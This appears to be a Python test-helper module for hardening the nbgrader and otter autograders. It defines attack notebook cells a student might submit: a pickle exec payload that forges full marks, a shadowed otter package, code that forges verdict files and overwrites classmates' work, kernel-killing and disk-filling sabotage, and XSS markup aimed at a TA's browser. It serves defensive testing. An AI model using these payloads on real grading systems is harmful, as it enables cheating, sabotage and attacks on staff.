"""Attacks on the nbgrader and otter doors (issue 12): the notebook cells a cheating or sabotaging
student adds, and a small class to grade them in beside honest classmates.

Every attack is one added notebook cell, written as a real attacker would (it imports what the
grading machine has installed: `reference`, `autograder`, the toy declaration). The doors must grade
each attacker from the pristine files submitted, and no classmate's score may move.
"""
from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import nbformat

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "doors"))

from door_helpers import BIN, run, sample_class, toy_course  # noqa: E402  (BIN, run: re-exported to the door attack tests)
import release_toy as toy  # noqa: E402  (door_helpers puts tests/release on sys.path)

from autograder.classroom import samples  # noqa: E402

# (a) the reference, flattened, over the student's module in the folder being graded.
COPY_REFERENCE = '''\
import pathlib, reference.collectives
from autograder.build.stubgen import flat_imports
pathlib.Path("collectives.py").write_text(flat_imports(pathlib.Path(reference.collectives.__file__).read_text()))
'''

# (b) the keys, computed by the declaration the grading machine has installed, into the answer
# cells of the notebook file on disk (the file the grader reads answers from).
WRITE_KEYS = '''\
import json, pathlib, release_toy
keys = {q.id: q.key for q in release_toy.make().questions}
for path in pathlib.Path(".").glob("*.ipynb"):
    nb = json.loads(path.read_text())
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        for qid, key in keys.items():
            if src.lstrip().startswith(qid + " ="):
                cell["source"] = f"{qid} = {key!r}"
    path.write_text(json.dumps(nb))
'''

# (c) every verdict file the folder holds rewritten to full marks.
FORGE_VERDICTS = '''\
import json, pathlib
for path in pathlib.Path(".").glob(".*.json"):
    data = json.loads(path.read_text())
    for test in data.get("tests", []):
        test["score"] = test.get("max_score", 0)
        test["output"] = "forged"
    path.write_text(json.dumps(data))
'''

# (d) otter unpickles what the kernel dumps: a payload that, once loaded in otter's process, makes
# every results.json full marks (and the plugin's override a no-op).
PICKLE_PAYLOAD = '''\
import pickle
CODE = """
import otter.test_files as tf
def full(self, ag_config, _orig=tf.GradingResults.to_gradescope_dict):
    out = _orig(self, ag_config)
    for t in out["tests"]:
        if "max_score" in t:
            t["score"] = t["max_score"]
    out["score"] = sum(t.get("max_score", 0) for t in out["tests"])
    return out
tf.GradingResults.to_gradescope_dict = full
try:
    import autograder.doors.otter as door
    door.EngineOverride.after_grading = lambda self, results: None
except Exception:
    pass
"""
class Payload:
    def __reduce__(self):
        return (exec, (CODE,))
_dump = pickle.dump
def dump(obj, f, *args, **kwargs):
    try:
        obj._payload = Payload()
    except Exception:
        pass
    return _dump(obj, f, *args, **kwargs)
pickle.dump = dump
'''

# (f) no cell at all: a submitted `otter/` package in the folder the kernel runs in shadows the
# real otter (the kernel's cwd is first on sys.path), loads the real one and plants (d)'s payload.
SHADOW_OTTER = {"otter/__init__.py": '''\
import os, sys
sys.path[:] = [p for p in sys.path if p not in ("", ".", os.getcwd())]
del sys.modules["otter"]
import otter
''' + PICKLE_PAYLOAD}

# (e) every classmate's submitted module replaced by a constant (nbgrader: the kernel runs in
# autograded/<student>/<id>/, so the course root is three levels up).
OVERWRITE_CLASSMATES = '''\
import pathlib
course = pathlib.Path.cwd().resolve().parents[2]
for module in course.glob("submitted/*/*/collectives.py"):
    if "aaa_classmates" not in module.parts:
        module.write_text("def ring_allreduce_time(*args, **kwargs):\\n    return 0.0\\n")
'''

# Sabotage: each stops, floods or scribbles outside; none may cost a classmate anything.
INFINITE_LOOP = "while True:\n    pass\n"
KILL_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
EXIT_KERNEL = "import os\nos._exit(0)\n"
WRITE_OUTSIDE = '''\
import pathlib
course = pathlib.Path.cwd().resolve().parents[2]
(course / "PWNED").write_text("written by a student's kernel")
with open(course / "big.bin", "wb") as f:
    f.truncate(64 << 30)
    f.write(b"x" * (8 << 20))
for nb in course.glob("submitted/*/*/*.ipynb"):
    nb.write_text("not a notebook")
'''


FOREIGN_METADATA = {
    # nbgrader stops the whole autograde run on a cell of another schema version: every classmate
    # after this student is left ungraded
    "versions": [{"grade": False, "solution": False, "locked": False, "grade_id": "no_version"},
                 {"grade": False, "solution": False, "locked": False, "grade_id": "old", "schema_version": 1},
                 {"grade": False, "solution": False, "locked": False, "grade_id": "new", "schema_version": 99}],
    # nbgrader fails the student (no grade at all) on metadata its schema refuses
    "malformed": [{"grade": True, "schema_version": 3}, "not a dict"],
    # every grade cell copied and pasted at the end, the copy claiming full marks: nbgrader keeps the
    # copy and blanks the original's metadata to {}, which then stops the run as an old version
    "copied": "copies",
}


def _correct_submission(folder: Path) -> tuple[Path, nbformat.NotebookNode]:
    """ada's correct module and answers (`honest_class()`) written into a submitted folder; returns
    its notebook's path and the notebook, for the caller to edit and write."""
    module, answers = honest_class()["ada"]
    (folder / "collectives.py").write_text(module)
    notebook = folder / f"{toy.make().id}.ipynb"
    # the keys, and their records as after running the reveals (a prediction needs one to count)
    samples.write_answers(toy.make(), notebook, {qid: "@key" for qid in answers}, record=True)
    return notebook, nbformat.read(notebook, as_version=4)


def foreign_metadata(folder: Path, kind: str) -> None:
    """(g) no code: nbgrader metadata (FOREIGN_METADATA[kind]) a student types into added cells of
    the notebook, beside the correct module and answers of `honest_class()`'s ada (so that a
    student nbgrader did not grade shows)."""
    notebook, nb = _correct_submission(folder)
    if kind == "copied":
        for cell in [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]:
            copy = nbformat.v4.new_code_cell(cell.source, metadata=json.loads(json.dumps(cell.metadata)))
            copy.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "1000.0"}, execution_count=1)]
            nb.cells.append(copy)
    else:
        for i, meta in enumerate(FOREIGN_METADATA[kind]):
            cell = nbformat.v4.new_code_cell(f"x{i} = {i}")
            cell.metadata["nbgrader"] = meta
            nb.cells.append(cell)
    nbformat.write(nb, notebook)


def _flip(flag: str, value):
    def edit(nb):
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade"):
                cell.metadata.nbgrader[flag] = value
    return edit


def _flip_locked(nb):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.locked = not cell.metadata.nbgrader.locked


def _grade_cells_to_markdown(nb):
    for index, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade"):
            # an attachment, which no code cell may carry (nbgrader's own conversion back refuses it)
            nb.cells[index] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata,
                                                            attachments={"a.png": {"image/png": "iVBORw0KGgo="}})
            nb.cells[index].metadata.nbgrader.cell_type = "markdown"


def _unknown_grade_id(nb):
    cell = nbformat.v4.new_code_cell("bonus = 1")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": "bonus",
                                 "points": 100, "schema_version": 3}
    cell.outputs = [nbformat.v4.new_output("execute_result", data={"text/plain": "100.0"}, execution_count=1)]
    nb.cells.append(cell)


def _grade_cells_gone(nb):
    graded = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade")]
    nb.cells.remove(graded[0])
    del graded[1].metadata["nbgrader"]


# (i) the nbgrader metadata of the released cells edited: nbgrader fails the student (no grade at
# all) when a grade cell's `grade` or `solution` flag is flipped ("Inconsistent checksums") or a cell
# carries a grade_id the gradebook does not know ("no grade_id"), and loses the grades of grade cells
# turned markdown or marked a task (no longer valid), deleted or stripped of its metadata; `locked`
# flips nbgrader restores itself (kept so that it stays so)
FLIPPED_FLAGS = {
    "grade_false": _flip("grade", False),
    "solution_true": _flip("solution", True),
    "task_true": _flip("task", True),
    "locked_flipped": _flip_locked,
    "unknown_grade_id": _unknown_grade_id,
    "type_changed": _grade_cells_to_markdown,
    "grade_cells_gone": _grade_cells_gone,
}


def flipped_flags(folder: Path, kind: str) -> None:
    """(i) FLIPPED_FLAGS[kind] applied to the notebook of a submission holding ada's correct module
    and answers (`honest_class()`), so that any grade nbgrader loses shows."""
    notebook, nb = _correct_submission(folder)
    FLIPPED_FLAGS[kind](nb)
    nbformat.write(nb, notebook)


# (h) markup a TA's browser would run: formgrader and the feedback page render markdown and raw
# cells as HTML (each marker names an attack; none may reach the HTML as live markup)
HOSTILE_MARKUP = [
    ("markdown", 'Hi <img src=x onerror="alert(\'md-img\')"> <script>alert("md-script")</script>'),
    ("markdown", '[a](javascript:alert("md-link")) [b](jav&#x61;script:alert("md-entity")) '
                 '![c](data:text/html,<script>alert("md-data")</script>)\n\n[d]: javascript:alert("md-ref")\n\n[e][d]'),
    ("markdown", '<a href="javascript:alert(\'html-link\')">x</a> <iframe src="https://evil.example"></iframe>'),
    ("raw", '<script>alert("raw-script")</script>'),
    # what must still render: a blockquote, a details block, a plain link
    ("markdown", "> a quote\n\n<details><summary>more</summary>\n\nhidden\n</details>\n\n[site](https://example.org)"),
]


def add_markup(notebook: Path) -> None:
    """Append HOSTILE_MARKUP's cells (raw cells as text/html) to a notebook on disk."""
    nb = nbformat.read(notebook, as_version=4)
    for kind, source in HOSTILE_MARKUP:
        cell = nbformat.v4.new_markdown_cell(source) if kind == "markdown" else nbformat.v4.new_raw_cell(source)
        if kind == "raw":
            cell.metadata["raw_mimetype"] = "text/html"
        nb.cells.append(cell)
    nbformat.write(nb, notebook)


def costly_notebook(folder: Path, kind: str) -> None:
    """(j) What costs nbgrader's passes the most (issue 26), in the notebook of a submission holding
    ada's correct module and answers: "markdown", one 19 MB markdown cell of tags (bleach's work:
    60-70 CPU s in the class's one autograde process); "code", 1,500 parseable code cells of 10,000
    characters assigning the question a wrong letter (the engine's notebook reading)."""
    notebook, nb = _correct_submission(folder)
    if kind == "markdown":
        nb.cells.append(nbformat.v4.new_markdown_cell("<b>bold</b> " * ((19 << 20) // 12)))
    else:
        question = toy.make().question("act1_prediction")
        wrong = next(letter for letter in question.options if letter != question.key)
        filler = "".join(f"x{i} = {i}  # act1_prediction\n" for i in range(10_000))
        nb.cells += [nbformat.v4.new_code_cell((f'act1_prediction = "{wrong}"\n' + filler)[:10_000]) for _ in range(1500)]   # 19 MB: under the 20 MB the engine reads
    nbformat.write(nb, notebook)


def add_cell(notebook: Path, source: str, outputs: list | None = None) -> None:
    """Append a code cell (with the outputs the student saved) to a notebook on disk."""
    nb = nbformat.read(notebook, as_version=4)
    cell = nbformat.v4.new_code_cell(source)
    cell.outputs = outputs or []
    nb.cells.append(cell)
    nbformat.write(nb, notebook)


def honest_class() -> dict[str, tuple[str | None, dict]]:
    """The honest classmates: ada (correct, right answer) and bob (buggy, wrong answer)."""
    shipped = sample_class()
    return {"ada": shipped["ada"], "bob": shipped["bob"]}


def make_course(root: Path, attackers: dict[str, str],
                attacker_files: dict[str, dict[str, str]] | None = None) -> tuple[object, dict[str, Path]]:
    """A toy course root with release/ generated and the class submitted: the honest classmates
    plus one untouched stub per attacker whose notebook carries the attack cell (an empty cell
    adds none) and whose folder holds the attacker's extra files.
    Returns (assignment, student -> submitted folder)."""
    assignment = toy.make()
    class_ = {**honest_class(), **{name: (None, {}) for name in attackers}}
    toy_course(root, assignment, class_)
    folders = {}
    for student in class_:
        folders[student] = samples.materialise(
            assignment.id, student, root / "submitted" / student / assignment.id, assignment=assignment,
            release_dir=root / "release" / assignment.id, samples_dir=root / "samples")
    for student, files in (attacker_files or {}).items():
        for relative, text in files.items():
            (folders[student] / relative).parent.mkdir(parents=True, exist_ok=True)
            (folders[student] / relative).write_text(text)
    for student, cell in attackers.items():
        if not cell:
            continue
        add_cell(folders[student] / f"{assignment.id}.ipynb", cell,
                 [nbformat.v4.new_output("stream", name="stdout", text=f"{student} saved this output\n"),
                  nbformat.v4.new_output("display_data", data={
                      "text/html": "<script>fetch('/formgrader/api/grade')</script>",
                      "application/javascript": "alert(document.cookie)", "text/plain": "<IPython.HTML>"})])
    return assignment, folders


def reference_module() -> str:
    """The reference's collectives, flattened as a student's module: what COPY_REFERENCE writes."""
    import reference.collectives
    from autograder.build.stubgen import flat_imports
    return flat_imports(Path(reference.collectives.__file__).read_text())


def digest(folder: Path) -> dict[str, str]:
    """relative path -> sha256 of every regular file under folder."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.is_symlink()}
